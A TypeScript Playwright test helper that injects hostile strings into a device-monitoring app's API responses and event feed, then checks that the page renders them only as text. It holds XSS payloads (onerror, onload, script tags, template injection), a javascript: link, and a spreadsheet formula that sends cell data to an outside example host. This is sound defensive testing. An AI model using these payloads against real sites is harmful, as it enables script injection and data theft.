// A Jetstream that sends, in every string that it may choose freely, what would do harm if it were taken for more than text.

import { readdirSync, readFileSync } from 'node:fs';
import { expect, type Page } from '@playwright/test';

/** What becomes of a string. */
export type Wrap = (text: string) => string;

/** Would be elements, whose scripts would leave their mark on the window, or a template, or the end of an attribute. */
export const MARKUP =
  '\'"><img class=hostile src=x onerror="window.ran=1"><svg class=hostile onload="window.ran=1"></svg>' +
  '<script class=hostile>window.ran=1</script>--></textarea><b class=hostile>{{window.ran=1}}${window.ran=1}\u202Edesrever';

export const markup: Wrap = (text) => text + MARKUP;

/** Would be a script where it is made a link. */
export const SCRIPT_LINK = 'javascript:window.ran=1//';

/** Would be a formula where a spreadsheet opens it. */
export const FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1)';

/** What the page needs as it is: times, identifiers, and the words by which it tells things apart. */
const KEPT = new Set([
  'BatchId', 'CommandId', 'CommandName', 'EventId', 'EventTime', 'Level', 'LogTime', 'ReadingTime', 'ReceivedTime', 'Type', 'Verb',
  // What parameters and sensors are called and are measured in; a strange one is added beside them.
  'ConfigParameters', 'SensorReadingMeasures', 'SensorReadings', 'CredentialType',
]);

/** What devices and policies are called, by which other answers and the addresses of pages mean them. */
const NAMES = new Set(['Device', 'Devices', 'Policy', 'DeviceName']);

/** From now on every answer and every frame of the feed. `names`: those of devices and policies, too, which no call can carry then. */
export async function sendHostile(page: Page, wrap: Wrap, names: boolean, crafted: readonly object[] = []): Promise<void> {
  const rewrite = (value: unknown, key: string, isNamed: boolean): unknown => {
    if (typeof value === 'string') return KEPT.has(key) || (!names && (NAMES.has(key) || (isNamed && key === 'Name'))) ? value : wrap(value);
    if (Array.isArray(value)) return value.map((one) => rewrite(one, key, isNamed));
    if (typeof value !== 'object' || value === null) return value;
    if (KEPT.has(key)) return { ...value, [wrap('Strange')]: wrap('strange') };
    const inner = Object.entries(value).map(([name, one]) => [name, rewrite(one, name, isNamed)] as const);
    return { ...Object.fromEntries(inner), [wrap('Strange')]: wrap('strange') };
  };

  await page.route(/\/3\//, async (route) => {
    const response = await route.fetch();
    const text = await response.text();
    const isNamed = /\/3\/(devices|policies)/.test(route.request().url());
    await route.fulfill(text === '' ? { response } : { response, json: rewrite(JSON.parse(text), '', isNamed) });
  });
  await page.routeWebSocket(/\/feed$/, (socket) => {
    // As of a feed, each connection hears of them: a page may be left before it has kept them.
    let rest = crafted;
    socket.connectToServer().onMessage((message) => {
      const frame = JSON.parse(String(message)) as { type: string; events?: unknown[] };
      if (frame.events) frame.events = [...frame.events.map((event) => rewrite(event, '', false)), ...rest];
      if (frame.events) rest = [];
      socket.send(JSON.stringify(frame));
    });
  });
}

const EXAMPLES = new URL('../../../src/api/examples/', import.meta.url);

/** Every type of event that there is, and one that there is not. */
const TYPES = [
  'AggregateEvent', 'CommandCompletionEvent', 'HeartbeatEvent', 'LogEntryEvent', 'ObjectEvent', 'SensorReadingEvent', 'StatusEvent',
  'BusinessProcessEvent', 'CommandQueuedEvent', 'DeviceAddedEvent', 'DeviceModifiedEvent', 'DeviceRemovedEvent',
  'DeviceCredentialsAddedEvent', 'DeviceCredentialsModifiedEvent', 'DeviceCredentialsRemovedEvent', 'AliasAddedEvent',
  'AliasModifiedEvent', 'AliasRemovedEvent', 'LogicalDeviceAddedEvent', 'LogicalDeviceRemovedEvent', 'UnheardEvent',
];

/** The word by which the crafted event of a number is found. */
export function word(number: number): string {
  return `crafted${String(number).padStart(2, '0')}x`;
}

/** An event of every type with every field that is documented for any, all of them hostile; its device and its time are real. */
export function craftedEvents(wrap: Wrap, device: string, time: string): { EventId: string; Type: string }[] {
  const files = readdirSync(EXAMPLES).filter((name) => /-event(-|\.)/.test(name));
  const fields = Object.assign({}, ...files.map((name) => JSON.parse(readFileSync(new URL(name, EXAMPLES), 'utf8')) as object)) as object;
  const hostile = (value: unknown): unknown => {
    if (typeof value === 'string') return wrap(value);
    if (Array.isArray(value)) return value.map(hostile);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, hostile(one)]));
  };
  return TYPES.map((type, number) => ({
    ...(hostile(fields) as object),
    AddedCredentials: [wrap('0011223344')],
    CurrentCredentials: [wrap('0011223344')],
    LogEntries: [
      { Level: 'Error', Type: 'DoorBreach', Message: wrap('Breach'), LogTime: time },
      { Level: wrap('Error'), Type: wrap('DoorBreach'), Message: wrap('Breach'), LogTime: time },
    ],
    SensorReadings: [
      { Name: 'TemperatureA', Value: wrap('26'), ReadingTime: time },
      { Name: wrap('TemperatureB'), Value: '26', ReadingTime: time },
    ],
    ExceptionList: [{ Key: wrap('Exception'), Value: wrap('exception') }],
    OutputParameterList: [{ Key: wrap('Output'), Value: wrap('output') }],
    Policy: wrap('Policy'),
    [wrap('Strange')]: wrap(word(number)),
    CommandId: `00000000-0000-4000-8000-${String(number).padStart(12, '0')}`,
    Device: device,
    EventId: wrap(`event-${number}`),
    EventTime: time,
    ReceivedTime: time,
    Type: type === 'UnheardEvent' ? wrap(type) : type,
  }));
}

/** All that a page shows as text: in elements, fields and descriptions. */
function shown(page: Page): Promise<string> {
  return page.evaluate(() => {
    const fields = [...document.querySelectorAll<HTMLInputElement>('input, textarea, select')].map(({ value }) => value);
    const described = [...document.querySelectorAll('[title], [aria-label]')].flatMap((element) => [element.getAttribute('title'), element.getAttribute('aria-label')]);
    return [document.title, document.body.textContent, ...fields, ...described].join('\n');
  });
}

/** What became of hostile texts that should have stayed texts. */
export function harm(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = 'ran' in window ? ['a script ran'] : [];
    for (const element of document.querySelectorAll('*')) {
      const name = `<${element.localName}>`;
      if (element.matches('.hostile, img, iframe, frame, object, embed, meta[http-equiv]')) found.push(`the element ${name}`);
      for (const { name: attribute, value } of element.attributes) {
        if (attribute.startsWith('on')) found.push(`the handler ${attribute} of ${name}`);
        if (/^(href|src|action|formaction|xlink:href)$/.test(attribute) && /^\s*(javascript|vbscript):/i.test(value)) found.push(`the script in ${attribute} of ${name}`);
      }
    }
    const own = document.querySelectorAll('head > script').length;
    if (document.scripts.length !== own) found.push('a script outside of the head');
    if (document.querySelectorAll('base').length !== 1) found.push('another base');
    return found;
  });
}

/** The page shows a hostile text, and it has stayed a text. */
export async function expectText(page: Page, mark: string): Promise<void> {
  await expect.poll(async () => (await shown(page)).includes(mark), 'the text is shown').toBe(true);
  expect(await harm(page)).toEqual([]);
}
